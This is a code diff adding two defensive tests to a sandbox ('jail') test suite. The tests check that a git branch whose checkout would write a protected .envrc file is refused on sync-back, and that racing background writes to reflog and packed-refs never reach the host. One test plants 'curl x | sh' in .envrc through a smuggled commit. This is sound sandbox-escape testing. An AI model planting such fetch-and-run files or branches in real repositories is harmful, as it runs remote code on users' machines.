@@ -1,7 +1,10 @@
 import assert from 'node:assert/strict'
+import { execFileSync } from 'node:child_process'
 import fs from 'node:fs/promises'
+import os from 'node:os'
 import path from 'node:path'
 import { describe, it } from 'node:test'
+import { GIT_TEST_ENV } from '../../test/helpers/git-repository.ts'
 import { EitriError } from '../errors/eitri-error.ts'
 import { assertJailAvailable, jailFixture } from './test-jail.ts'
 
@@ -386,6 +389,130 @@ describe('Jail', () => {
         .length,
       41,
     )
+  })
+
+  it('never brings back a ref to a commit whose checkout writes a protected file; an ordinary branch comes back', async (t) => {
+    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' })
+    const git = (...args: string[]) =>
+      execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
+    git('init', '-q', '-b', 'main')
+    git('add', 'a.txt')
+    git('commit', '-q', '-m', 'first')
+    const first = git('rev-parse', 'HEAD')
+    const inJail = (script: string) =>
+      jail.run({
+        command: bash(
+          `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; ${script}`,
+        ),
+        access: 'workspace-write',
+      })
+    const evil = await inJail(
+      // .envrc is read-only in the jail: the commit is made from the object store alone.
+      'git checkout -q -b evil && blob=$(echo "curl x | sh" | git hash-object -w --stdin) && git update-index --add --cacheinfo "100644,$blob,.envrc" && git commit -q -m evil && git checkout -q -f main',
+    )
+    assert.equal(evil.exitCode, 0, evil.stderr)
+    const refused = new Map((evil.sync?.refused ?? []).map((entry) => [entry.path, entry.reason]))
+    assert.match(refused.get('.git/refs/heads/evil') ?? '', /checking that out writes \.envrc/)
+    assert.equal(git('for-each-ref', '--format=%(refname)'), 'refs/heads/main')
+    assert.equal(git('rev-parse', 'HEAD'), first)
+    // Positive control: a branch of ordinary files, checked out in the jail, comes back.
+    const ordinary = await inJail(
+      'git checkout -q -b feature && echo b > b.txt && git add b.txt && git commit -q -m feature',
+    )
+    assert.deepEqual(ordinary.sync?.refused, [])
+    assert.equal(git('symbolic-ref', 'HEAD'), 'refs/heads/feature')
+    assert.equal(git('log', '--format=%s', 'feature'), 'feature\nfirst')
+    assert.equal(git('status', '--porcelain'), '')
+  })
+
+  it('writes what it judged: a background job flipping a reflog and packed-refs between a good and a bad version never gets the bad one to the host', async (t) => {
+    // The mirror lives here, so the test can read the job's file as a second read would.
+    const temporaryRoot = await fs.mkdtemp(path.join(os.tmpdir(), 'eitri-race-'))
+    await fs.chmod(temporaryRoot, 0o755)
+    t.after(() => fs.rm(temporaryRoot, { recursive: true, force: true }))
+    const { jail, workspace } = await jailFixture(t, { 'a.txt': 'a\n' }, { temporaryRoot })
+    const git = (...args: string[]) =>
+      execFileSync('git', args, { cwd: workspace, env: GIT_TEST_ENV }).toString().trim()
+    git('init', '-q', '-b', 'main')
+    git('add', 'a.txt')
+    git('commit', '-q', '-m', 'first')
+    git('branch', 'topic')
+    git('pack-refs', '--all')
+    const head = git('rev-parse', 'HEAD')
+    const file = (relative: string) => fs.readFile(path.join(workspace, relative), 'latin1')
+    const oldLog = await file('.git/logs/HEAD')
+    const oldPacked = await file('.git/packed-refs')
+    // Good: the reflog grows by a line, packed-refs gains a tag. Bad: the same lengths of '#'.
+    const goodLog = `${oldLog}${head} ${head} person <person@example.org> 1700000000 +0000\tmoved\n`
+    const goodPacked = `${oldPacked}${head} refs/tags/v9\n`
+    const versions = {
+      'good-log': goodLog,
+      'bad-log': '#'.repeat(goodLog.length),
+      'good-packed': goodPacked,
+      'bad-packed': '#'.repeat(goodPacked.length),
+    }
+    await fs.mkdir(path.join(workspace, 'flip'))
+    for (const [name, text] of Object.entries(versions))
+      await fs.writeFile(path.join(workspace, 'flip', name), text)
+    const job = await jail.start({
+      command: bash(
+        [
+          'for v in good-log bad-log good-packed bad-packed; do IFS= read -r -d "" "${v//-/_}" < flip/$v; done',
+          'echo started',
+          'while :; do printf %s "$good_log" > .git/logs/HEAD; printf %s "$good_packed" > .git/packed-refs; printf %s "$bad_log" > .git/logs/HEAD; printf %s "$bad_packed" > .git/packed-refs; done',
+        ].join('; '),
+      ),
+      access: 'workspace-write',
+    })
+    // Stopped even when an assertion fails, or the file never ends.
+    t.after(async () => {
+      job.process.kill()
+      await job.finished
+    })
+    for (let waited = 0; !job.process.stdout.text().includes('started'); waited += 20) {
+      assert.ok(waited < 10_000, 'the background job did not start')
+      await new Promise((resolve) => setTimeout(resolve, 20))
+    }
+    const [mirror = ''] = (await fs.readdir(temporaryRoot)).filter((name) =>
+      name.startsWith('eitri-mirror-'),
+    )
+    const mirrorLog = path.join(temporaryRoot, mirror, '.git/logs/HEAD')
+    const onHost: string[] = []
+    let refusals = 0
+    let secondReadsBad = 0
+    for (let iteration = 0; iteration < 40; iteration++) {
+      const result = await jail.run({ command: ['/bin/true'], access: 'workspace-write' })
+      refusals += result.sync?.refused.length ?? 0
+      const log = await file('.git/logs/HEAD')
+      const packed = await file('.git/packed-refs')
+      if (log !== oldLog && log !== goodLog) onHost.push(`logs/HEAD: ${log.slice(0, 20)}`)
+      if (packed !== oldPacked && packed !== goodPacked)
+        onHost.push(`packed-refs: ${packed.slice(0, 20)}`)
+      // The control: a judge's read then a copy's read of the same file, as before the fix.
+      for (let sample = 0; sample < 20; sample++) {
+        const judged = await fs.readFile(mirrorLog, 'latin1').catch(() => '')
+        await new Promise((resolve) => setImmediate(resolve))
+        const copied = await fs.readFile(mirrorLog, 'latin1').catch(() => '')
+        if (judged === goodLog && copied === versions['bad-log']) secondReadsBad++
+      }
+    }
+    job.process.kill()
+    await job.finished
+    const log = await file('.git/logs/HEAD')
+    const packed = await file('.git/packed-refs')
+    assert.ok(log === oldLog || log === goodLog, log.slice(0, 40))
+    assert.ok(packed === oldPacked || packed === goodPacked, packed.slice(0, 40))
+    assert.deepEqual(onHost, [])
+    // The flips were seen and judged, and a second read would have copied a bad version.
+    assert.ok(refusals > 0, 'no write-back saw a bad version')
+    assert.ok(
+      secondReadsBad > 0,
+      'the flip never fell between two reads: the race was not exercised',
+    )
+    assert.deepEqual(git('for-each-ref', '--format=%(refname)').split('\n').slice(0, 2), [
+      'refs/heads/main',
+      'refs/heads/topic',
+    ])
   })
 
   it('fails closed when bubblewrap is missing: jail_unavailable with the fix, and nothing runs', async (t) => {
